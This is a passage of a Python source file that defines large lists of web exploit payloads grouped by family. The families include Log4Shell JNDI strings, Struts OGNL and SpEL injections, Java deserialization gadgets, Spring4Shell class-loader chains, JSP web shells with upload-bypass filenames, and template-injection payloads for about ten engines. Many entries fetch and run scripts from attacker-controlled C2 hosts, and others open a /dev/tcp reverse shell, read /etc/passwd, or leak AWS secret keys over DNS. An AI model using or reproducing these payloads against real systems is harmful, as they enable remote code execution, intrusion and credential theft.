    kv("rememberMe=" + shiro(jser(CC1, "exec", f"curl -s {C2A}/shiro.sh|sh")), "cookie", "rs-cookie"),
]

# log4shell: ${jndi:...} as the 2021 campaigns sprayed it into every header and field, lookups nested and encoded
# (target: Log4j 2 < 2.15/2.16 in any Java product that logs the request)
LOG4J_CMD = b64(f"wget http://{C2A}/l4j.sh -O- | sh")
LOG4SHELL: list[Entry] = [
    f"${{jndi:ldap://{C2A}:1389/Basic/Command/Base64/{LOG4J_CMD}}}",
    f"${{jndi:ldap://${{hostName}}.l4j.{OOB}/a}}",
    "${${env:ENV_NAME:-j}ndi${env:ENV_NAME:-:}${env:ENV_NAME:-l}dap${env:ENV_NAME:-:}//" + C2B +
    ":1389/TomcatBypass/Command/Base64/" + b64(f"curl -s {C2B}/t|bash") + "}",
    f"${{jndi:${{lower:l}}${{lower:d}}a${{lower:p}}://{C2C}:1389/o}}",
    f"${{${{upper:j}}ndi:rmi://{C2D}:1099/Object}}",
    f"${{${{::-j}}ndi:dns://{OOB}/l4j-dns}}",
    f"${{jndi:ldaps://{C2A}:636/Exploit}}",
    f"${{jndi:ldap://${{env:AWS_SECRET_ACCESS_KEY}}.aws.{OOB}/x}}",
    f"${{jndi:dns://${{sys:java.version}}.ver.{OOB}/}}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://" + C2C + ":1389/d}",
    f"${{j${{k8s:k5:-ND}}i${{sd:k5:-:}}ldap://{C2D}:1389/k}}",
    f"${{j${{main:\\k5:-Nd}}i${{spring:k5:-:}}ldap://{C2A}:1389/m}}",
    "${${base64:" + b64(f"jndi:ldap://{C2B}:1389/b64") + "}}",
    f"${{jnd${{123%ff:-${{123%ff:-i:}}}}ldap://{C2C}/pct}}",
    f"${{jndi:ldap://127.0.0.1#evil.{OOB}:1389/a}}",
    f"${{${{lower:${{lower:jndi}}}}:${{lower:rmi}}://{C2D}/poc}}",
    f"${{j${{::-n}}d${{::-i}}:${{::-l}}${{::-d}}${{::-a}}${{::-p}}://{C2A}/split}}",
    f"${{jndi:${{lower:l}}${{lower:d}}${{lower:a}}${{lower:p}}://${{hostName}}.${{sys:user.name}}.u.{OOB}/}}",
    f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) ${{jndi:ldap://{C2B}:1389/ua}}",
    f"() {{ :; }}; echo; ${{jndi:ldap://{C2C}:1389/shock}}",
    "%24%7Bjndi%3Aldap%3A%2F%2F" + C2D + "%3A1389%2Fenc%7D",
    ('{"username":"${\\u006a\\u006e\\u0064\\u0069:ldap://' + C2B + ':1389/uni}","password":"x"}', *JB),
    (f"${{jndi:ldap://{C2C}:1389/hdr}}", "header:X-Api-Version", "rs-header:X-Api-Version"),
]

S2045 = ("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?"
         "(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container'])."
         "(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))."
         "(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear())."
         f"(#context.setMemberAccess(#dm)))).(#cmd='wget -qO- http://{C2A}/s2|sh')."
         "(#iswin=(@java.lang.System@getProperty('os.name').toLowerCase().contains('win')))."
         "(#cmds=(#iswin?{'cmd.exe','/c',#cmd}:{'/bin/bash','-c',#cmd})).(#p=new java.lang.ProcessBuilder(#cmds))."
         "(#p.redirectErrorStream(true)).(#process=#p.start())."
         "(#ros=(@org.apache.struts2.ServletActionContext@getResponse().getOutputStream()))."
         "(@org.apache.commons.io.IOUtils@copy(#process.getInputStream(),#ros)).(#ros.flush())}")

# expression-language: OGNL (Struts, Confluence), SpEL (Spring Cloud), MVEL, JEXL, JSP EL and Nexus' JSR-341 EL
# (target: the products' evaluators, with the campaigns' own payloads)
EL: list[Entry] = [
    (S2045, "header:Content-Type", "rs-header:Content-Type"),
    "${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"id\").getInputStream(),"
    "\"utf-8\")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader(\"X-Cmd-Response\",#a))}",
    kv("queryString=aaaa\\u0027%2b#{\\u0022\\u0022[\\u0022class\\u0022].forName(\\u0022javax.script."
       "ScriptEngineManager\\u0022).newInstance().getEngineByName(\\u0022js\\u0022).eval(\\u0022var%20x=new%20"
       "java.lang.ProcessBuilder;x.command([\\u0027bash\\u0027,\\u0027-c\\u0027,\\u0027id\\u0027]);x.start()"
       "\\u0022)}%2b\\u0027", "form", "rs-raw-body"),
    (f"T(java.lang.Runtime).getRuntime().exec(\"wget http://{C2B}/scf -O /tmp/scf\")",
     "header:spring.cloud.function.routing-expression", "rs-header:spring.cloud.function.routing-expression"),
    ('{"id":"hacktest","filters":[{"name":"AddResponseHeader","args":{"name":"Result","value":'
     '"#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime()'
     '.exec(new String[]{\\"id\\"}).getInputStream()))}"}}],"uri":"http://example.com"}', *JB),
    "#{T(java.lang.Runtime).getRuntime().exec('curl " + C2C + "/sp|sh')}",
    "${T(java.lang.System).getenv()}",
    "#{new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('cat /etc/passwd').getInputStream())"
    ".useDelimiter('\\\\A').next()}",
    "@{java.lang.Runtime.getRuntime().exec('id')}",
    "new java.util.Scanner(Runtime.getRuntime().exec(\"id\").getInputStream()).useDelimiter(\"\\\\A\").next()",
    "''.getClass().forName('java.lang.Runtime').getRuntime().exec('touch /tmp/jexl')",
    "${''.class.forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}",
    "${pageContext.request.getSession().getServletContext().getRealPath('/')}",
    "${\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null)"
    ".exec(\"wget " + C2A + "/el\")}",
    "$\\A{''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null).exec('touch /tmp/nexus')}",
    ("/${(#_memberAccess['allowStaticMethodAccess']=true).(#cmd='id').(#iswin=(@java.lang.System@getProperty("
     "'os.name').toLowerCase().contains('win'))).(#cmds=(#iswin?{'cmd.exe','/c',#cmd}:{'bash','-c',#cmd}))."
     "(#p=new java.lang.ProcessBuilder(#cmds)).(#p.redirectErrorStream(true)).(#process=#p.start())."
     "(@org.apache.commons.io.IOUtils@toString(#process.getInputStream()))}/actionChain1.action", "path", "rs-path"),
    kv("method:%23_memberAccess%3d@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS,%23res%3d%40org.apache.struts2."
       "ServletActionContext%40getResponse(),%23w%3d%23res.getWriter(),%23w.print(%23parameters.t[0]),%23w.close(),"
       "1?%23xx:%23request.toString&t=S2032&pp=%5C%5C&ppp=%20&encoding=UTF-8"),
    kv("redirect:${%23a%3d(new%20java.lang.ProcessBuilder(new%20java.lang.String[]{'id'})).start(),%23b%3d%23a."
       "getInputStream(),%23c%3dnew%20java.io.InputStreamReader(%23b),%23d%3dnew%20java.io.BufferedReader(%23c),"
       "%23e%3dnew%20char[50000],%23d.read(%23e),%23matt%3d%23context.get('com.opensymphony.xwork2.dispatcher."
       "HttpServletResponse'),%23matt.getWriter().println(%23e),%23matt.getWriter().flush(),%23matt.getWriter()."
       "close()}"),
    "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('" +
    f"curl {C2B}/o|sh'))}}",
    "(#context['xwork.MethodAccessor.denyMethodExecution']=false)(#_memberAccess['allowStaticMethodAccess']=true)"
    "(@java.lang.Runtime@getRuntime().exec('id'))",
]

# polymorphic-deserialization: type-tagged JSON/XML/YAML that names the class to build (target: XStream,
# java.beans.XMLDecoder in WebLogic wls-wsat, fastjson autoType, Jackson default typing, SnakeYAML)
WLS = ('<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header>'
       '<work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/">'
       '<java version="1.4.0" class="java.beans.XMLDecoder"><void class="java.lang.ProcessBuilder">'
       '<array class="java.lang.String" length="3"><void index="0"><string>/bin/bash</string></void>'
       '<void index="1"><string>-c</string></void><void index="2"><string>{cmd}</string></void></array>'
       '<void method="start"/></void></java></work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>')
POLY: list[Entry] = [
    (WLS.replace("{cmd}", f"wget http://{C2A}/wls -O /tmp/wls;sh /tmp/wls"), *XB),
    ('<java version="1.8.0_151" class="java.beans.XMLDecoder"><object class="java.lang.Runtime" method="getRuntime">'
     '<void method="exec"><string>touch /tmp/xmldecoder</string></void></object></java>', *XB),
    ('<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface>'
     '<handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command>'
     f"<string>/bin/sh</string><string>-c</string><string>curl {C2C}/xs|sh</string></command></target>"
     "<action>start</action></handler></dynamic-proxy></sorted-set>", *XB),
    ('<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class="com.sun.xml.internal.'
     'bind.v2.runtime.unmarshaller.Base64Data"><dataHandler><dataSource class="com.sun.xml.internal.ws.encoding.'
     'xml.XMLMessage$XmlDataSource"><is class="javax.crypto.CipherInputStream"><cipher class="javax.crypto.'
     'NullCipher"><initialized>false</initialized><opmode>0</opmode><serviceIterator class="javax.imageio.spi.'
     'FilterIterator"><iter class="javax.imageio.spi.FilterIterator"><iter class="java.util.Collections$EmptyIter'
     'ator"/><next class="java.lang.ProcessBuilder"><command><string>id</string></command><redirectErrorStream>'
     'false</redirectErrorStream></next></iter><filter class="javax.imageio.ImageIO$ContainsFilter"><method>'
     '<class>java.lang.ProcessBuilder</class><name>start</name><parameter-types/></method><name>foo</name>'
     '</filter><next class="string">foo</next></serviceIterator><lock/></cipher><input class="java.lang.'
     'ProcessBuilder$NullInputStream"/><ibuffer></ibuffer></is></dataSource></dataHandler></value>'
     '</jdk.nashorn.internal.objects.NativeString><string>test</string></entry></map>', *XB),
    (f'{{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://{C2A}:1389/Exploit","autoCommit":true}}',
     *JB),
    ('{"a":{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"},"b":{"@type":"com.sun.rowset.'
     f'JdbcRowSetImpl","dataSourceName":"rmi://{C2B}:1099/Exploit","autoCommit":true}}}}', *JB),
    (f'{{"@type":"Lcom.sun.rowset.JdbcRowSetImpl;","dataSourceName":"ldap://{C2C}:1389/L","autoCommit":true}}', *JB),
    (f'{{"@type":"LLcom.sun.rowset.JdbcRowSetImpl;;","dataSourceName":"ldap://{C2D}:1389/LL","autoCommit":true}}',
     *JB),
    (f'{{"@type":"[com.sun.rowset.JdbcRowSetImpl"[{{,"dataSourceName":"ldap://{C2A}:1389/arr","autoCommit":true}}',
     *JB),
    ('{"@type":"org.apache.ibatis.datasource.jndi.JndiDataSourceFactory","properties":{"data_source":'
     f'"ldap://{C2B}:1389/ibatis"}}}}', *JB),
    (f'{{"@type":"java.net.Inet4Address","val":"fj.{OOB}"}}', *JB),
    (f'{{"x":{{"@type":"java.net.URL","val":"http://fjurl.{OOB}"}}}}', *JB),
    ('{"\\u0040\\u0074\\u0079\\u0070\\u0065":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://' + C2C +
     ':1389/u","autoCommit":true}', *JB),
    ('{"@type":"' + TEMPLATES + '","_bytecodes":["yv66vgAAADQAJgoACQAWCgAXABgIABkKABcAGgcAGwoABQAWBwAc"],'
     '"_name":"a","_tfactory":{},"_outputProperties":{}}', *JB),
    (f'["ch.qos.logback.core.db.JNDIConnectionSource",{{"jndiLocation":"ldap://{C2D}:1389/logback"}}]', *JB),
    (f'["com.zaxxer.hikari.HikariConfig",{{"metricRegistry":"ldap://{C2A}:1389/hikari"}}]', *JB),
    (f'["org.springframework.context.support.ClassPathXmlApplicationContext","http://{C2B}/spel.xml"]', *JB),
    ('["ch.qos.logback.core.db.DriverManagerConnectionSource",{"url":"jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;'
     f"INIT=RUNSCRIPT FROM 'http://{C2C}/inject.sql'\"}}]", *JB),
    (f'{{"@class":"org.apache.xbean.propertyeditor.JndiConverter","asText":"ldap://{C2D}:1389/xbean"}}', *JB),
    ('{"object":["org.apache.commons.dbcp2.datasources.SharedPoolDataSource",{"dataSourceName":"ldap://' + C2A +
     ':1389/dbcp"}]}', *JB),
]

# class-loading: remote jars, defineClass of attacker bytecode and the classLoader property chains
# (target: SnakeYAML, Spring MVC data binding (Spring4Shell), Struts 2, fastjson BCEL, SpEL)
CLASSLOAD: list[Entry] = [
    (f'!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://{C2A}/yaml.jar"]]]]',
     *YB),
    "new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL(\"http://" + C2B + "/x.jar\")})"
    ".loadClass(\"Exploit\").newInstance()",
    kv("class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di%20if(%22j%22.equals("
       "request.getParameter(%22pwd%22)))%7B%20java.io.InputStream%20in%20%3D%20%25%7Bc1%7Di.getRuntime().exec("
       "request.getParameter(%22cmd%22)).getInputStream()%3B%20int%20a%20%3D%20-1%3B%20byte%5B%5D%20b%20%3D%20new"
       "%20byte%5B2048%5D%3B%20while((a%3Din.read(b))!%3D-1)%7B%20out.println(new%20String(b))%3B%20%7D%20%7D%20"
       "%25%7Bsuffix%7Di&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp&class."
       "module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT&class.module.classLoader"
       ".resources.context.parent.pipeline.first.prefix=tomcatwar&class.module.classLoader.resources.context."
       "parent.pipeline.first.fileDateFormat=", "form", "rs-raw-body"),
    kv("class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"),
    kv("class.module.classLoader.URLs[0]=http://" + C2C + "/cl.jar"),
    kv("class.classLoader.resources.dirContext.docBase=%5C%5C" + C2D + "%5Cshare"),
    kv("class['classLoader']['jarPath']=http://" + C2A + "/s2.jar"),
    kv("class.module.classLoader.DefaultAssertionStatus=nonsense"),
    "T(org.springframework.cglib.core.ReflectUtils).defineClass('Exploit',T(org.springframework.util.Base64Utils)"
    ".decodeFromString('yv66vgAAADIAHgoABwAPCgAQABEIABIKABAAEwcAFAcAFQ=='),new javax.management.loading.MLet("
    "new java.net.URL[0],T(java.lang.Thread).currentThread().getContextClassLoader())).newInstance()",
    "java.lang.reflect.Method m=ClassLoader.class.getDeclaredMethod(\"defineClass\",byte[].class,int.class,"
    "int.class);m.setAccessible(true);",
    "new javax.management.loading.MLet(new java.net.URL[]{new java.net.URL(\"http://" + C2B + "/m.jar\")},"
    "ClassLoader.getSystemClassLoader()).loadClass(\"M\").newInstance()",
    ('{"@type":"org.apache.tomcat.dbcp.dbcp2.BasicDataSource","driverClassLoader":{"@type":"com.sun.org.apache.bcel.'
     'internal.util.ClassLoader"},"driverClassName":"$$BCEL$$$l$8b$I$A$A$A$A$A$A$A$8dV$eb$7f$UW$Z$7e$ce$ec$ce'
     '$7e$e6$h$c2$deBa$cb$d6$e4$b6$e1"}', *JB),
    "Thread.currentThread().getContextClassLoader().loadClass(\"javax.script.ScriptEngineManager\").newInstance()",
    "${Class.forName('java.lang.ClassLoader').getMethod('getSystemClassLoader').invoke(null).loadClass("
    "'java.lang.Runtime')}",
    "java.net.URLClassLoader.newInstance(new java.net.URL[]{new java.net.URL('jar:http://" + C2C +
    "/p.jar!/')}).loadClass('Payload')",
    "#{T(java.net.URLClassLoader).newInstance(new java.net.URL[]{new java.net.URL('http://" + C2D +
    "/spel.jar')}).loadClass('E').newInstance()}",
    "load(\"nashorn:mozilla_compat.js\");importPackage(java.net);new URLClassLoader([new URL(\"http://" + C2A +
    "/n.jar\")]).loadClass(\"N\").newInstance()",
]

JSP_SHELL = ('<%@ page import="java.io.*" %><% String c = request.getParameter("cmd"); if (c != null) { '
             'Process p = Runtime.getRuntime().exec(new String[]{"/bin/sh","-c",c}); BufferedReader r = new '
             'BufferedReader(new InputStreamReader(p.getInputStream())); String l; while ((l = r.readLine()) != '
             'null) { out.println(l); } } %>')

# jsp-upload: web shells dropped through uploads and PUTs, and the names that sneak them past extension checks
# (target: Tomcat/Jetty/WebLogic JSP containers)
JSP_UPLOAD: list[Entry] = [
    JSP_SHELL,
    '<%Runtime.getRuntime().exec(request.getParameter("i"));%>',
    '<%@page import="java.util.*,javax.crypto.*,javax.crypto.spec.*"%><%!class U extends ClassLoader{U(ClassLoader'
    ' c){super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}%><%if (request.getMethod()'
    '.equals("POST")){String k="e45e329feb5d925b";session.putValue("u",k);Cipher c=Cipher.getInstance("AES");'
    'c.init(2,new SecretKeySpec(k.getBytes(),"AES"));new U(this.getClass().getClassLoader()).g(c.doFinal(new '
    'sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine()))).newInstance().equals(pageContext);}%>',
    '<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="1.2"><jsp:scriptlet>Runtime.getRuntime().exec('
    'request.getParameter("cmd"));</jsp:scriptlet></jsp:root>',
    '<% java.io.InputStream in = Runtime.getRuntime().exec(request.getParameter("x")).getInputStream(); '
    'int a = -1; byte[] b = new byte[2048]; out.print("<pre>"); while((a=in.read(b))!=-1){ out.println(new '
    'String(b)); } out.print("</pre>"); %>',
    '<%@ page import="java.util.*,java.io.*"%><% if (request.getParameter("pwd").equals("023")) { '
    'new FileOutputStream(application.getRealPath("/")+request.getParameter("f")).write(request.getParameter("t")'
    '.getBytes()); } %>',
    '<%! String x(String s){return s;} %><%=new java.util.Scanner(Runtime.getRuntime().exec("id").getInputStream())'
    '.useDelimiter("\\\\A").next()%>',
    "<jsp:expression>Runtime.getRuntime().exec(\"wget " + C2A + "/jx -O /tmp/jx\")</jsp:expression>",
    '<%@ page import="javax.script.*" %><% new ScriptEngineManager().getEngineByName("js").eval(request.'
    'getParameter("js")); %>',
    ("shell.jsp", *UP),
    ("cmd.jsp%00.jpg", *UP),
    ("x.jsp;.png", *UP),
    ("../../webapps/ROOT/s.jsp", *UP),
    ("a.jspx", *UP),
    ("help.JsP", *UP),
    ("upload.jsp::$DATA", *UP),
    ("avatar.jpg.jsp", *UP),
]

# ================================================================================================================
# ssti: one sub-family per template engine; the scanners' arithmetic probes and the droppers that follow them
# ================================================================================================================
# jinja2 (target: Flask/Jinja2 rendering a user string with render_template_string)
JINJA2: list[Entry] = [
    "{{7*'7'}}",
    "{{config.items()}}",
    "{{self.__init__.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    f"{{{{cycler.__init__.__globals__.os.popen('curl -s http://{C2A}/j2.sh|sh').read()}}}}",
    f"{{{{lipsum.__globals__['os'].popen('wget -qO- http://{C2B}/m.sh|bash').read()}}}}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}"
    "{{ c.__init__.__globals__['__builtins__'].eval(\"__import__('os').popen('id').read()\") }}{% endif %}"
    "{% endfor %}",
    "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')"
    "('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')"
    "|attr('popen')('id')|attr('read')()}}",
    "{{url_for.__globals__.os.environ}}",
    "{{get_flashed_messages.__globals__.current_app.config}}",
    f"{{{{namespace.__init__.__globals__.os.popen('nslookup $(whoami).j2.{OOB}').read()}}}}",
    "johnsmith{{7*191}}",
]

# twig (target: PHP applications rendering Twig from user input, Symfony, Craft CMS)
TWIG: list[Entry] = [
    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
    "{{['id']|filter('system')}}",
    f"{{{{['curl http://{C2A}/t.sh|sh']|map('system')|join}}}}",
    "{{['cat /etc/passwd']|filter('passthru')}}",
    "{{app.request.server.all|join(',')}}",
    f"{{{{_self.env.setCache(\"ftp://{C2D}:2121\")}}}}{{{{_self.env.loadTemplate(\"backdoor\")}}}}",
    "{{['id',1]|sort('system')|join}}",
    f"{{{{['wget -O /tmp/.x http://{C2B}/x;chmod +x /tmp/.x;/tmp/.x']|map('shell_exec')|join}}}}",
    "{{\"/etc/passwd\"|file_excerpt(1,30)}}",
    "{{craft.app.config.general.securityKey}}",
    "{{{'<?php system($_GET[0]);?>':'/var/www/html/t.php'}|map('file_put_contents')}}",
]

# freemarker (target: Java CMS/portal templates: Liferay, Alfresco, Magnolia, Apache OFBiz)
FREEMARKER: list[Entry] = [
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "${\"freemarker.template.utility.Execute\"?new()(\"curl -s http://" + C2A + "/f.sh -o /tmp/f.sh; sh /tmp/f.sh\")}",
    "<#assign ob=\"freemarker.template.utility.ObjectConstructor\"?new()>${ob(\"java.lang.ProcessBuilder\",\"id\")"
    ".start()}",
    "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd')"
    ".toURL().openStream().readAllBytes()?join(\" \")}",
    "<#assign jr=\"freemarker.template.utility.JythonRuntime\"?new()><@jr>import os;os.system(\"id\")</@jr>",
    "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('cat /etc/passwd')}",
    "${\"freemarker.template.utility.Execute\"?new()(\"nslookup fm." + OOB + "\")}",
    "<#assign classloader=article.class.protectionDomain.classLoader><#assign owc=classloader.loadClass("
    "\"freemarker.template.ObjectWrapper\")><#assign dwf=owc.getField(\"DEFAULT_WRAPPER\").get(null)>"
    "<#assign ec=classloader.loadClass(\"freemarker.template.utility.Execute\")>${dwf.newInstance(ec,null)(\"id\")}",
    "${.data_model?keys?join(\",\")}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"" + bash_b64(REVSH) + "\")}",
]

# velocity (target: Apache Solr VelocityResponseWriter, Confluence widget macro, Java apps with Velocity)
VELOCITY: list[Entry] = [
    "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null)"
    ".exec(\"id\")",
    "#set($x=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"curl http://" + C2B + "/v.sh|sh\"))",
    "#set($str=$class.forName(\"java.lang.String\"))#set($chr=$class.forName(\"java.lang.Character\"))"
    "#set($ex=$class.forName(\"java.lang.Runtime\").getRuntime().exec(\"cat /etc/passwd\"))$ex.waitFor()"
    "#set($out=$ex.getInputStream())#foreach($i in [1..$out.available()])$str.valueOf($chr.toChars($out.read()))"
    "#end",
    kv("q=1&&wt=velocity&v.template=custom&v.template.custom=%23set($x=%27%27)+%23set($rt=$x.class.forName("
       "%27java.lang.Runtime%27))+%23set($chr=$x.class.forName(%27java.lang.Character%27))+%23set($str=$x.class."
       "forName(%27java.lang.String%27))+%23set($ex=$rt.getRuntime().exec(%27id%27))+$ex.waitFor()+%23set($out="
       "$ex.getInputStream())+%23foreach($i+in+[1..$out.available()])$str.valueOf($chr.toChars($out.read()))%23end"),
    ('{"update-queryresponsewriter":{"startup":"lazy","name":"velocity","class":"solr.VelocityResponseWriter",'
     '"template.base.dir":"","solr.resource.loader.enabled":"true","params.resource.loader.enabled":"true"}}', *JB),
    ('{"contentId":"786457","macro":{"name":"widget","body":"","params":{"url":"https://www.viddler.com/v/23464dc5",'
     '"width":"1000","height":"1000","_template":"file:///etc/passwd"}}}', *JB),
    ('{"contentId":"1","macro":{"name":"widget","params":{"url":"https://www.youtube.com/watch?v=dQw4w9WgXcQ",'
     f'"_template":"ftp://{C2D}:2121/cmd.vm","command":"id"}}}}}}', *JB),
    "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"" + bash_b64(f"wget -qO- {C2C}/vel|sh") + "\")",
    "#set($rt=$x.class.forName('java.lang.Runtime').getRuntime())$rt.exec('touch /tmp/vtl')",
    "$!{request.getClass().getClassLoader()}",
]

# thymeleaf (target: Spring MVC view names and fragment expressions, Thymeleaf 3 preprocessing)
THYMELEAF: list[Entry] = [
    "__${T(java.lang.Runtime).getRuntime().exec(\"id\")}__::.x",
    ("__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(\"id\").getInputStream()).next()}__::.x",
     "path", "rs-path"),
    "[[${T(java.lang.Runtime).getRuntime().exec('curl " + C2A + "/th|sh')}]]",
    "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('cat /etc/passwd')"
    ".getInputStream())}",
    "__|${T(java.lang.Runtime).getRuntime().exec('touch /tmp/th')}|__::",
    "${@java.lang.Runtime@getRuntime().exec('id')}",
    "[(${T(java.lang.System).getenv()})]",
    "__${T(java.lang.Thread).sleep(10000)}__::.x",
    "/doc/__${T(java.lang.Runtime).getRuntime().exec('wget " + C2B + "/d -O /tmp/d')}__::.x",
    "__${''.getClass().forName('java.lang.Runtime').getMethod('exec',''.getClass()).invoke(''.getClass()"
    ".forName('java.lang.Runtime').getMethod('getRuntime').invoke(null),'id')}__::.x",
]

# erb (target: Ruby/Rails rendering ERB.new(params).result)
ERB_T: list[Entry] = [
    "<%= 7*7 %>",
    "<%= `id` %>",
    f"<%= system(\"curl -s http://{C2A}/r.sh | bash\") %>",
    "<%= IO.popen('cat /etc/passwd').readlines() %>",
    "<%= File.open('/etc/passwd').read %>",
    "<%= Dir.entries('/') %>",
    "<%= ENV.to_h %>",
    "<%= require 'open3'; Open3.capture2('id')[0] %>",
    "<%= Rails.application.secrets.secret_key_base %>",
    f"<%= `wget -qO- http://{C2B}/k | sh` %>",
]

# smarty (target: PHP applications with Smarty 2/3 templates from user input)
SMARTY: list[Entry] = [
    "{$smarty.version}",
    "{system('id')}",
    "{php}echo `id`;{/php}",
    "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\",self::clearConfig())}",
    f"{{if system('curl http://{C2A}/sm.sh|sh')}}{{/if}}",
    "{fetch file=\"file:///etc/passwd\"}",
    "{math equation=\"(\\\"\\163\\171\\163\\164\\145\\155\\\")(\\\"id\\\")\"}",
    "{function name='x(){};system(\"id\");function '}{/function}",
    "{passthru(\"cat /etc/passwd\")}",
    "{$smarty.template_object->smarty->disableSecurity()->display('string:{system(\"id\")}')}",
]

HBS_CHAIN = ("{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}"
             "{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}"
             "{{this.pop}}{{this.push \"return require('child_process').execSync('{cmd}');\"}}{{this.pop}}"
             "{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}"
             "{{/with}}{{/with}}{{/with}}")

# handlebars (target: Node.js apps compiling user templates with Handlebars < 4.7.7)
HANDLEBARS: list[Entry] = [
    HBS_CHAIN.replace("{cmd}", "id"),
    HBS_CHAIN.replace("{cmd}", f"curl http://{C2A}/hb.sh|sh"),
    HBS_CHAIN.replace("{cmd}", "cat /etc/passwd").replace("require('child_process')",
                                                          "process.mainModule.require('child_process')"),
    "{{#with this as |o|}}{{#with (o.constructor.constructor \"return process.env\")}}{{this}}{{/with}}{{/with}}",
    "{{lookup (lookup this \"constructor\") \"constructor\"}}",
    "{{#each (lookup this \"__proto__\")}}{{@key}}{{/each}}",
    ('{"__proto__.type":"Program","__proto__.body":[{"type":"MustacheStatement","path":0,"params":[{"type":'
     '"NumberLiteral","value":"process.mainModule.require(\'child_process\').execSync(`id`)"}],'
     '"loc":{"start":0,"end":0}}]}', *JB),
    ('{"__proto__":{"type":"Program","body":[{"type":"MustacheStatement","path":0,"params":[{"type":"NumberLiteral"'
     f',"value":"process.mainModule.require(\'child_process\').execSync(`wget -qO- {C2B}/hbs|sh`)"}}],'
     '"loc":{"start":0,"end":0}}]}}', *JB),
]

# pug (target: Express apps rendering pug.render(user input), pug AST injection through prototype pollution)
PUG: list[Entry] = [
    "#{7*7}",
    "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\")"
    f".exec('curl {C2A}/pg|sh')}}()}}",
    "- var x = root.process.mainModule.require('child_process').execSync('id')",
    "#{global.process.mainModule.require('child_process').execSync('cat /etc/passwd').toString()}",
    ('{"__proto__":{"block":{"type":"Text","line":"process.mainModule.require(\'child_process\').execSync(`bash -c'
     f" 'bash -i >& /dev/tcp/{C2D}/4444 0>&1'`)\"}}}}}}", *JB),
    "= global.process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')",
    "p #{process.env.DATABASE_URL}",
    "#{root.process.mainModule.require('child_process').spawnSync('id').stdout}",
    kv("__proto__[block][type]=Text&__proto__[block][line]=process.mainModule.require('child_process')"
       ".execSync('id')", "form", "rs-raw-body"),
]

# mako (target: Python apps with Mako templates: Pylons, Pyramid)
MAKO: list[Entry] = [
    "<% import os; x=os.popen('id').read() %>${x}",
    "${self.module.cache.util.os.system(\"id\")}",
    f"${{__import__('os').popen('curl http://{C2A}/mk.sh|sh').read()}}",
    "<%import subprocess%>${subprocess.check_output(['cat','/etc/passwd'])}",
    "${self.module.runtime.util.os.popen('uname -a').read()}",
    "<%! import os %>${os.environ}",
    "${self.template.module.runtime.compat.inspect.os.system('id')}",
